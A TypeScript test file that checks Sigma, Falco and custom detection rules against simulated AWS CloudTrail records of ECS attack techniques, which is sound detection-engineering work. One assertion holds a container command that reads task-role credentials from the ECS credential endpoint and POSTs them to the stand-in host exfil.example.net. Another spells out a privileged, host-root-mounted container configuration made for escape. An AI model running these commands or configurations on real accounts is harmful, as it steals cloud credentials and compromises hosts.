import t from 'tap';
import { sigmaContains, sigmaEquals, sigmaValues, type TrailRecord } from '../helpers/rule-engines.js';
import { falco, ids, techniqueTrail } from './technique-trail.js';

/**
 * Techniques that live in a task definition (docs/detections.md §1, §5, §7): the generated records
 * carry exactly the eventNames and field values the rules match, and the rules match nothing else.
 */

/**
 * Sigma "AWS ECS Task Definition That Queries The Credential Endpoint", id b94bf91e-c2bf-4047-9c43-c6810f43baad
 * (SigmaHQ/sigma rules/cloud/aws/cloudtrail/aws_ecs_task_definition_cred_endpoint_query.yml):
 * eventSource = ecs.amazonaws.com, eventName ∈ {DescribeTaskDefinition, RegisterTaskDefinition, RunTask},
 * requestParameters.containerDefinitions.command|contains '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI'.
 */
const sigmaCredentialEndpoint = (r: TrailRecord) =>
  sigmaEquals(r, 'eventSource', 'ecs.amazonaws.com') &&
  sigmaEquals(r, 'eventName', 'DescribeTaskDefinition', 'RegisterTaskDefinition', 'RunTask') &&
  sigmaContains(r, 'requestParameters.containerDefinitions.command', '$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI');

t.test('credential-endpoint-task-definition: Sigma b94bf91e fires on the backdoored RegisterTaskDefinition only', async (t) => {
  const { records, flagged } = await techniqueTrail(t, 'techniques/credential-endpoint-task-definition.yaml');
  t.same(flagged.map((r) => r.eventName), ['DescribeTaskDefinition', 'RegisterTaskDefinition', 'RunTask']);
  const [describe, register, run] = flagged as [TrailRecord, TrailRecord, TrailRecord];
  t.same(ids(records.filter(sigmaCredentialEndpoint)), [register.eventID], 'Sigma matches exactly the backdoor registration');

  // The fields the rule reads, as the record holds them: the command is not redacted or rewritten.
  t.equal(register.eventSource, 'ecs.amazonaws.com');
  t.equal(register.errorCode, undefined);
  const command = sigmaValues(register, 'requestParameters.containerDefinitions.command');
  t.same(command, ['/bin/sh -c "curl http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI > data.json && curl -X POST -d @data.json https://exfil.example.net/c"']);
  t.same(register.requestParameters.containerDefinitions[0].entryPoint, ['sh', '-c']);
  t.equal(register.requestParameters.family, 'payments-api', 'the victim family (Pacu keeps it)');
  t.equal(register.requestParameters.taskRoleArn, 'arn:aws:iam::210987654321:role/payments-api-task', "the victim's task role");
  t.equal(register.responseElements.taskDefinition.revision, 2);

  // DescribeTaskDefinition and RunTask are in the rule's list but cannot match in real CloudTrail.
  t.same(describe.requestParameters, { taskDefinition: 'arn:aws:ecs:us-east-1:210987654321:task-definition/payments-api:1' });
  t.equal(describe.responseElements, null, 'read-only: the described definition is not in the record');
  t.notOk('containerDefinitions' in run.requestParameters);
  t.equal(run.requestParameters.taskDefinition, register.responseElements.taskDefinition.taskDefinitionArn);
  t.equal(run.requestParameters.networkConfiguration.awsvpcConfiguration.assignPublicIp, 'ENABLED');
  t.ok(falco.taskRunOrStarted(run), 'Falco "ECS Task Run or Started" on the RunTask');
  t.equal(new Set(flagged.map((r) => r.userIdentity.arn)).size, 1);
});

/**
 * The custom rule of docs/detections.md §7: RegisterTaskDefinition of an existing requestParameters.family
 * by a userIdentity.arn that never registered that family, then within 30 minutes an UpdateService by
 * the same ARN whose requestParameters.taskDefinition is the new revision's ARN.
 */
function backdoorRollouts(records: readonly TrailRecord[]): [TrailRecord, TrailRecord][] {
  const registrants = new Map<string, Set<string>>();
  const out: [TrailRecord, TrailRecord][] = [];
  for (const r of records) {
    if (r.eventSource !== 'ecs.amazonaws.com' || r.errorCode) continue;
    if (r.eventName === 'RegisterTaskDefinition') {
      const family = r.requestParameters.family as string;
      const who = registrants.get(family);
      if (who && !who.has(r.userIdentity.arn)) {
        const arn = r.responseElements.taskDefinition.taskDefinitionArn;
        const update = records.find(
          (u) =>
            u.eventName === 'UpdateService' && !u.errorCode && u.userIdentity.arn === r.userIdentity.arn && u.requestParameters.taskDefinition === arn &&
            Date.parse(u.eventTime) - Date.parse(r.eventTime) <= 30 * 60_000 && u.eventTime >= r.eventTime,
        );
        if (update) out.push([r, update]);
      }
      registrants.set(family, (who ?? new Set()).add(r.userIdentity.arn));
    }
  }
  return out;
}

t.test('backdoored-service-revision: Sigma b94bf91e and the register-then-roll-out rule fire on the attacker only', async (t) => {
  const { records, flagged } = await techniqueTrail(t, 'techniques/backdoored-service-revision.yaml');
  t.same(flagged.map((r) => r.eventName), ['RegisterTaskDefinition', 'UpdateService']);
  const [register, update] = flagged as [TrailRecord, TrailRecord];
  t.same(ids(records.filter(sigmaCredentialEndpoint)), [register.eventID], 'Sigma: only the sidecar revision');
  t.same(backdoorRollouts(records).map(([a, b]) => [a.eventID, b.eventID]), [[register.eventID, update.eventID]], 'custom rule: only the attacker, not the CI role');

  t.equal(register.requestParameters.family, 'checkout');
  t.equal(register.responseElements.taskDefinition.revision, 3);
  t.same(register.requestParameters.containerDefinitions.map((c: { name: string }) => c.name), ['checkout', 'log-router']);
  t.equal(update.requestParameters.taskDefinition, register.responseElements.taskDefinition.taskDefinitionArn);
  t.equal(update.requestParameters.forceNewDeployment, true);
  t.equal(update.responseElements.service.taskDefinition, register.responseElements.taskDefinition.taskDefinitionArn, 'the service now runs revision 3');
  const ci = records.filter((r) => r.userIdentity.arn?.includes('assumed-role/github-actions-deploy/') && r.eventName === 'RegisterTaskDefinition');
  t.same(ci.map((r) => r.responseElements.taskDefinition.revision), [1, 2], 'the normal deploys registered 1 and 2');
});

/**
 * No public CloudTrail rule (posture checks only: AWS Config ecs-containers-nonprivileged / Security
 * Hub ECS.4, ecs-task-definition-user-for-host-mode-check / ECS.1). The custom rule of
 * docs/detections.md §5: RegisterTaskDefinition with containerDefinitions.privileged = true, or
 * pidMode/ipcMode/networkMode = host, or capabilities.add ∋ SYS_ADMIN, or a host volume of `/`.
 */
const escapeReady = (r: TrailRecord) =>
  r.eventSource === 'ecs.amazonaws.com' &&
  r.eventName === 'RegisterTaskDefinition' &&
  (sigmaEquals(r, 'requestParameters.containerDefinitions.privileged', true) ||
    sigmaEquals(r, 'requestParameters.pidMode', 'host') ||
    sigmaEquals(r, 'requestParameters.ipcMode', 'host') ||
    sigmaEquals(r, 'requestParameters.networkMode', 'host') ||
    sigmaEquals(r, 'requestParameters.containerDefinitions.linuxParameters.capabilities.add', 'SYS_ADMIN') ||
    sigmaEquals(r, 'requestParameters.volumes.host.sourcePath', '/'));

t.test('privileged-host-container: every field of the custom rule is set, on EC2 only', async (t) => {
  const { records, flagged } = await techniqueTrail(t, 'techniques/privileged-host-container.yaml');
  t.same(flagged.map((r) => r.eventName), ['RegisterTaskDefinition', 'RunTask']);
  const [register, run] = flagged as [TrailRecord, TrailRecord];
  t.same(ids(records.filter(escapeReady)), [register.eventID], 'the custom rule matches only the escape definition');
  const p = register.requestParameters;
  t.match(p, { requiresCompatibilities: ['EC2'], networkMode: 'host', pidMode: 'host', ipcMode: 'host', volumes: [{ name: 'hostroot', host: { sourcePath: '/' } }] });
  t.match(p.containerDefinitions[0], { privileged: true, user: 'root', linuxParameters: { capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] } }, mountPoints: [{ sourceVolume: 'hostroot', containerPath: '/host' }] });
  t.same(register.responseElements.taskDefinition.compatibilities, ['EXTERNAL', 'EC2'], 'ECS accepts it for EC2, not for Fargate');
  t.equal(run.requestParameters.taskDefinition, register.responseElements.taskDefinition.taskDefinitionArn);
  t.match(run.responseElements.tasks[0], { launchType: 'EC2', containerInstanceArn: /:container-instance\/batch-ec2\/[0-9a-f]{32}$/ });
  t.same(run.responseElements.failures, [], 'placed on a registered instance');
  t.ok(falco.taskRunOrStarted(run));
});
